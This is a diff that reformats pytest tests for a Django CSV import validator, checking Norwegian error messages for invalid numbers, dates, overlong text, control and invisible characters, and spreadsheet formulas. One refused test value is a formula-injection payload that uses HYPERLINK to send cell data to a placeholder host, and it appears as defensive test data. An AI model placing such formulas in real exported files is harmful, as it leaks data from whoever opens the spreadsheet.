@@ -60,60 +60,143 @@ def test_the_plain_file_is_clean(tmp_path: Path) -> None:
     ("column", "value", "code", "message"),
     [
         # digits that pass str.isdigit() but are not ASCII
-        ("deltakere_oppgitt_antall", "²", "integer_invalid",
-         "«²» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647)."),
-        ("deltakere_oppgitt_antall", "٣", "integer_invalid",
-         "«٣» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647)."),
-        ("deltakere_oppgitt_antall", "99999999999", "integer_invalid",
-         "«99999999999» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647)."),
-        ("oppgaveomrader", "3; ¹", "task_area_unknown",
-         "Ukjent oppgaveområde «¹». Forventet nummer 1–45 (se malen)."),
-        ("arsverk", "٦", "number_invalid",
-         "«٦» er ikke et tall. Forventet antall årsverk, et tall ≥ 0."),
+        (
+            "deltakere_oppgitt_antall",
+            "²",
+            "integer_invalid",
+            "«²» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
+        ),
+        (
+            "deltakere_oppgitt_antall",
+            "٣",
+            "integer_invalid",
+            "«٣» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
+        ),
+        (
+            "deltakere_oppgitt_antall",
+            "99999999999",
+            "integer_invalid",
+            "«99999999999» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
+        ),
+        (
+            "oppgaveomrader",
+            "3; ¹",
+            "task_area_unknown",
+            "Ukjent oppgaveområde «¹». Forventet nummer 1–45 (se malen).",
+        ),
+        (
+            "arsverk",
+            "٦",
+            "number_invalid",
+            "«٦» er ikke et tall. Forventet antall årsverk, et tall ≥ 0.",
+        ),
         # years and dates before 1800, and year 0
-        ("etablert", "0000", "year_too_early",
-         "Året i «0000» er for tidlig. Forventet et år fra 1800."),
-        ("etablert", "0202-2001", "year_too_early",
-         "Året i «0202-2001» er for tidlig. Forventet et år fra 1800."),
-        ("etablert", "２００１", "established_invalid",
-         "Ugyldig etablering «２００１». Forventet ÅÅÅÅ, ÅÅÅÅ-ÅÅÅÅ eller «uspesifisert»."),
+        (
+            "etablert",
+            "0000",
+            "year_too_early",
+            "Året i «0000» er for tidlig. Forventet et år fra 1800.",
+        ),
+        (
+            "etablert",
+            "0202-2001",
+            "year_too_early",
+            "Året i «0202-2001» er for tidlig. Forventet et år fra 1800.",
+        ),
+        (
+            "etablert",
+            "２００１",
+            "established_invalid",
+            "Ugyldig etablering «２００１». Forventet ÅÅÅÅ, ÅÅÅÅ-ÅÅÅÅ eller «uspesifisert».",
+        ),
         # numbers beyond the column's digits
-        ("arsverk", "1 234 567 890", "number_too_large",
-         "1 234 567 890 er for stort for kolonnen. Forventet høyst 9999999.99."),
-        ("arsverk", "10000000", "number_too_large",
-         "10000000 er for stort for kolonnen. Forventet høyst 9999999.99."),
-        ("budsjett", "12345678901234567890", "number_too_large",
-         "12345678901234567890 er for stort for kolonnen. Forventet høyst 999999999999999."),
-        ("budsjett", "1e308", "number_invalid",
-         "«1e308» er ikke et tall. Forventet kroner, et tall ≥ 0."),
+        (
+            "arsverk",
+            "1 234 567 890",
+            "number_too_large",
+            "1 234 567 890 er for stort for kolonnen. Forventet høyst 9999999.99.",
+        ),
+        (
+            "arsverk",
+            "10000000",
+            "number_too_large",
+            "10000000 er for stort for kolonnen. Forventet høyst 9999999.99.",
+        ),
+        (
+            "budsjett",
+            "12345678901234567890",
+            "number_too_large",
+            "12345678901234567890 er for stort for kolonnen. Forventet høyst 999999999999999.",
+        ),
+        (
+            "budsjett",
+            "1e308",
+            "number_invalid",
+            "«1e308» er ikke et tall. Forventet kroner, et tall ≥ 0.",
+        ),
         # texts longer than the column, line breaks in one-line columns
-        ("navn", "N" * 301, "text_too_long",
-         "Teksten har 301 tegn; feltet tar høyst 300. Forkort den."),
-        ("id", "I" * 51, "text_too_long",
-         "Teksten har 51 tegn; feltet tar høyst 50. Forkort den."),
-        ("forkortelse", "F" * 51, "text_too_long",
-         "Teksten har 51 tegn; feltet tar høyst 50. Forkort den."),
-        ("beskrivelse", "b" * 32_768, "text_too_long",
-         "Teksten har 32768 tegn; feltet tar høyst 32767. Forkort den."),
-        ("navn", "Alfa\nIKT", "line_break",
-         "«Alfa ⏎ IKT» har linjeskift. Forventet én linje i dette feltet."),
+        (
+            "navn",
+            "N" * 301,
+            "text_too_long",
+            "Teksten har 301 tegn; feltet tar høyst 300. Forkort den.",
+        ),
+        ("id", "I" * 51, "text_too_long", "Teksten har 51 tegn; feltet tar høyst 50. Forkort den."),
+        (
+            "forkortelse",
+            "F" * 51,
+            "text_too_long",
+            "Teksten har 51 tegn; feltet tar høyst 50. Forkort den.",
+        ),
+        (
+            "beskrivelse",
+            "b" * 32_768,
+            "text_too_long",
+            "Teksten har 32768 tegn; feltet tar høyst 32767. Forkort den.",
+        ),
+        (
+            "navn",
+            "Alfa\nIKT",
+            "line_break",
+            "«Alfa ⏎ IKT» har linjeskift. Forventet én linje i dette feltet.",
+        ),
         # characters that cannot be stored
-        ("navn", "Alfa\x07IKT", "control_character",
-         "Verdien inneholder kontrolltegnet U+0007 (tegn nr. 5), som ikke kan lagres: "
-         "«Alfa\\x07IKT». Forventet vanlig tekst; fjern tegnet."),
-        ("merknader", "ok\x1bnot", "control_character",
-         "Verdien inneholder kontrolltegnet U+001B (tegn nr. 3), som ikke kan lagres: "
-         "«ok\\x1bnot». Forventet vanlig tekst; fjern tegnet."),
+        (
+            "navn",
+            "Alfa\x07IKT",
+            "control_character",
+            "Verdien inneholder kontrolltegnet U+0007 (tegn nr. 5), som ikke kan lagres: "
+            "«Alfa\\x07IKT». Forventet vanlig tekst; fjern tegnet.",
+        ),
+        (
+            "merknader",
+            "ok\x1bnot",
+            "control_character",
+            "Verdien inneholder kontrolltegnet U+001B (tegn nr. 3), som ikke kan lagres: "
+            "«ok\\x1bnot». Forventet vanlig tekst; fjern tegnet.",
+        ),
         # formulas, with or without the apostrophe an export puts in front
-        ("navn", "'=HYPERLINK(\"http://x/?l=\"&A2,\"x\")", "formula",
-         "Cellen begynner med «=» og blir en formel i regneark: «'=HYPERLINK(\"http://x/?l=\"&A2,"
-         "\"x\")». Forventet en verdi, ikke en formel (skriv verdien uten «=» foran)."),
-        ("merknader", "\u200b=1+2", "formula",
-         "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, ikke "
-         "en formel (skriv verdien uten «=» foran)."),
-        ("kilder", "'@SUM(A1)", "formula",
-         "Cellen begynner med «@» og blir en formel i regneark: «'@SUM(A1)». Forventet en verdi, "
-         "ikke en formel (skriv verdien uten «@» foran)."),
+        (
+            "navn",
+            '\'=HYPERLINK("http://x/?l="&A2,"x")',
+            "formula",
+            'Cellen begynner med «=» og blir en formel i regneark: «\'=HYPERLINK("http://x/?l="&A2,'
+            '"x")». Forventet en verdi, ikke en formel (skriv verdien uten «=» foran).',
+        ),
+        (
+            "merknader",
+            "\u200b=1+2",
+            "formula",
+            "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, ikke "
+            "en formel (skriv verdien uten «=» foran).",
+        ),
+        (
+            "kilder",
+            "'@SUM(A1)",
+            "formula",
+            "Cellen begynner med «@» og blir en formel i regneark: «'@SUM(A1)». Forventet en verdi, "
+            "ikke en formel (skriv verdien uten «@» foran).",
+        ),
     ],
 )
 def test_refused(tmp_path: Path, column: str, value: str, code: str, message: str) -> None:
@@ -122,8 +205,12 @@ def test_refused(tmp_path: Path, column: str, value: str, code: str, message: st
     assert (ERROR, code, column, message) in errors
     # ... and the arrangement is refused with it: --skip-invalid stores nothing of it.
     call_command(
-        "import_file", str(path), mapping="Grense", skip_invalid=True,
-        rejected=str(tmp_path / "avvist.csv"), stdout=_Null(),
+        "import_file",
+        str(path),
+        mapping="Grense",
+        skip_invalid=True,
+        rejected=str(tmp_path / "avvist.csv"),
+        stdout=_Null(),
     )
     assert not Arrangement.objects.filter(mapping__name="Grense").exists()
     assert ",13," in (tmp_path / "avvist.csv").read_text(encoding="utf-8-sig")
@@ -131,8 +218,12 @@ def test_refused(tmp_path: Path, column: str, value: str, code: str, message: st
 
 def test_year_zero_as_end_date(tmp_path: Path) -> None:
     path = write_file(tmp_path, {"status": "avsluttet", "avsluttet": "0000"})
-    assert (ERROR, "date_too_early", "avsluttet",
-            "Datoen «0000» er for tidlig. Forventet en dato fra 1800.") in findings(path)
+    assert (
+        ERROR,
+        "date_too_early",
+        "avsluttet",
+        "Datoen «0000» er for tidlig. Forventet en dato fra 1800.",
+    ) in findings(path)
 
 
 def test_membership_dates_before_1800(tmp_path: Path) -> None:
@@ -143,21 +234,37 @@ def test_membership_dates_before_1800(tmp_path: Path) -> None:
     path = tmp_path / "d.csv"
     path.write_text(text, encoding="utf-8")
     found = findings(path)
-    assert (ERROR, "date_too_early", "inn_dato",
-            "Datoen «0001-01-01» er for tidlig. Forventet en dato fra 1800.") in found
-    assert (ERROR, "date_invalid", "ut_dato",
-            "Ugyldig dato «0000-01-01». Forventet ÅÅÅÅ-MM-DD.") not in found
+    assert (
+        ERROR,
+        "date_too_early",
+        "inn_dato",
+        "Datoen «0001-01-01» er for tidlig. Forventet en dato fra 1800.",
+    ) in found
+    assert (
+        ERROR,
+        "date_invalid",
+        "ut_dato",
+        "Ugyldig dato «0000-01-01». Forventet ÅÅÅÅ-MM-DD.",
+    ) not in found
     assert [f[1] for f in found if f[2] == "ut_dato"] == ["date_too_early"]
 
 
 def test_invisible_characters_are_removed_with_a_warning(tmp_path: Path) -> None:
     path = write_file(tmp_path, {"navn": "Alfa\u200b IKT\u202e", "merknader": "a\u00adb"})
     assert findings(path) == [
-        (WARNING, "invisible_removed", "navn",
-         "Usynlige tegn er fjernet (U+200B ZERO WIDTH SPACE, U+202E RIGHT-TO-LEFT OVERRIDE); "
-         "verdien leses som «Alfa IKT»."),
-        (WARNING, "invisible_removed", "merknader",
-         "Usynlige tegn er fjernet (U+00AD SOFT HYPHEN); verdien leses som «ab»."),
+        (
+            WARNING,
+            "invisible_removed",
+            "navn",
+            "Usynlige tegn er fjernet (U+200B ZERO WIDTH SPACE, U+202E RIGHT-TO-LEFT OVERRIDE); "
+            "verdien leses som «Alfa IKT».",
+        ),
+        (
+            WARNING,
+            "invisible_removed",
+            "merknader",
+            "Usynlige tegn er fjernet (U+00AD SOFT HYPHEN); verdien leses som «ab».",
+        ),
     ]
     result = check_path(str(path), mapping_name=None, cutoff=None)
     assert result.spec.arrangements[0].name == "Alfa IKT"
@@ -169,8 +276,12 @@ def test_a_name_that_differs_only_by_an_invisible_character_is_the_same_name(
     text = HEAD + "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\nA2,Alfa\u200b IKT,Notodden\n"
     path = tmp_path / "zw.csv"
     path.write_text(text, encoding="utf-8")
-    assert (ERROR, "arrangement_duplicate", "navn",
-            "Samme ordning to ganger: «Alfa IKT» står også på linje 13.") in findings(path)
+    assert (
+        ERROR,
+        "arrangement_duplicate",
+        "navn",
+        "Samme ordning to ganger: «Alfa IKT» står også på linje 13.",
+    ) in findings(path)
 
 
 def test_text_is_nfc_and_trimmed(tmp_path: Path) -> None:
@@ -193,19 +304,32 @@ def test_rounding_happens_once_on_input_so_a_second_import_changes_nothing(
     path = tmp_path / "r.csv"
     path.write_text(text, encoding="utf-8")
     assert [f for f in findings(path) if f[1] == "number_rounded"] == [
-        (WARNING, "number_rounded", "arsverk",
-         "6.255 har flere desimaler enn kolonnen tar (2); lagres avrundet som 6.26."),
-        (WARNING, "number_rounded", "eierandel",
-         "33.333333 har flere desimaler enn kolonnen tar (4); lagres avrundet som 33.3333."),
-        (WARNING, "number_rounded", "eierandel",
-         "66.666666 har flere desimaler enn kolonnen tar (4); lagres avrundet som 66.6667."),
+        (
+            WARNING,
+            "number_rounded",
+            "arsverk",
+            "6.255 har flere desimaler enn kolonnen tar (2); lagres avrundet som 6.26.",
+        ),
+        (
+            WARNING,
+            "number_rounded",
+            "eierandel",
+            "33.333333 har flere desimaler enn kolonnen tar (4); lagres avrundet som 33.3333.",
+        ),
+        (
+            WARNING,
+            "number_rounded",
+            "eierandel",
+            "66.666666 har flere desimaler enn kolonnen tar (4); lagres avrundet som 66.6667.",
+        ),
     ]
     out = _Capture()
     call_command("import_file", str(path), mapping="Grense", stdout=out)
     arrangement = Arrangement.objects.get(mapping__name="Grense", ref="A1")
     assert arrangement.arsverk == Decimal("6.26")
     assert sorted(m.ownership_share for m in arrangement.memberships.all()) == [
-        Decimal("33.3333"), Decimal("66.6667")
+        Decimal("33.3333"),
+        Decimal("66.6667"),
     ]
     out = _Capture()
     call_command("import_file", str(path), mapping="Grense", stdout=out)
@@ -214,22 +338,31 @@ def test_rounding_happens_once_on_input_so_a_second_import_changes_nothing(
 
 def test_mapping_name_from_the_command_line_passes_the_same_boundary(tmp_path: Path) -> None:
     path = write_file(tmp_path, {})
-    assert (ERROR, "text_too_long", None,
-            "Teksten har 151 tegn; feltet tar høyst 150. Forkort den.") in findings(
-        path, mapping="M" * 151
-    )
-    assert (ERROR, "formula", None,
-            "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, "
-            "ikke en formel (skriv verdien uten «=» foran).") in findings(path, mapping="=1+2")
+    assert (
+        ERROR,
+        "text_too_long",
+        None,
+        "Teksten har 151 tegn; feltet tar høyst 150. Forkort den.",
+    ) in findings(path, mapping="M" * 151)
+    assert (
+        ERROR,
+        "formula",
+        None,
+        "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, "
+        "ikke en formel (skriv verdien uten «=» foran).",
+    ) in findings(path, mapping="=1+2")
     result = check_path(str(path), mapping_name=" Grense\u200b ", cutoff=None)
     assert result.spec.name == "Grense"
     assert not result.errors
 
 
 def test_mapping_fields_are_held_to_their_columns(tmp_path: Path) -> None:
-    text = HEAD.replace("navn,Grense", "navn," + "G" * 151).replace(
-        "dato,2021-11-01", "dato,2021-11-01\ntittel," + "T" * 301
-    ) + "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\n"
+    text = (
+        HEAD.replace("navn,Grense", "navn," + "G" * 151).replace(
+            "dato,2021-11-01", "dato,2021-11-01\ntittel," + "T" * 301
+        )
+        + "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\n"
+    )
     path = tmp_path / "m.csv"
     path.write_text(text, encoding="utf-8")
     codes = [(f[1], f[2]) for f in findings(path) if f[0] == ERROR]
@@ -239,9 +372,13 @@ def test_mapping_fields_are_held_to_their_columns(tmp_path: Path) -> None:
 def test_longest_values_fit_their_database_columns(tmp_path: Path) -> None:
     """At the limit every value is stored — on PostgreSQL too, where a longer one raised DataError."""
     values = {
-        "id": "I" * 50, "navn": "N" * 300, "forkortelse": "F" * 50,
-        "navnevarianter": "; ".join(["V" * 300] * 3), "arsverk": "9999999.99",
-        "budsjett": "999999999999999", "beskrivelse": "b" * 32_767,
+        "id": "I" * 50,
+        "navn": "N" * 300,
+        "forkortelse": "F" * 50,
+        "navnevarianter": "; ".join(["V" * 300] * 3),
+        "arsverk": "9999999.99",
+        "budsjett": "999999999999999",
+        "beskrivelse": "b" * 32_767,
         "deltakere_oppgitt_antall": "2147483647",
     }
     path = write_file(tmp_path, values)
@@ -254,8 +391,12 @@ def test_longest_values_fit_their_database_columns(tmp_path: Path) -> None:
 
 def test_a_name_variant_longer_than_a_name_is_refused(tmp_path: Path) -> None:
     path = write_file(tmp_path, {"navnevarianter": "kort; " + "V" * 301})
-    assert (ERROR, "text_too_long", "navnevarianter",
-            "Teksten har 301 tegn; feltet tar høyst 300. Forkort den.") in findings(path)
+    assert (
+        ERROR,
+        "text_too_long",
+        "navnevarianter",
+        "Teksten har 301 tegn; feltet tar høyst 300. Forkort den.",
+    ) in findings(path)
 
 
 def test_a_quoted_value_is_shortened_in_messages(tmp_path: Path) -> None:
@@ -332,7 +473,9 @@ def test_a_mapping_field_twice_is_refused_not_last_one_wins(tmp_path: Path) -> N
     )
     path = tmp_path / "twice.csv"
     path.write_text(text, encoding="utf-8")
-    assert (ERROR, "mapping_field_duplicate", "felt",
-            "Feltet «Dato» står to ganger (også linje 4). Forventet hvert felt én gang.") in (
-        findings(path)
-    )
+    assert (
+        ERROR,
+        "mapping_field_duplicate",
+        "felt",
+        "Feltet «Dato» står to ganger (også linje 4). Forventet hvert felt én gang.",
+    ) in (findings(path))
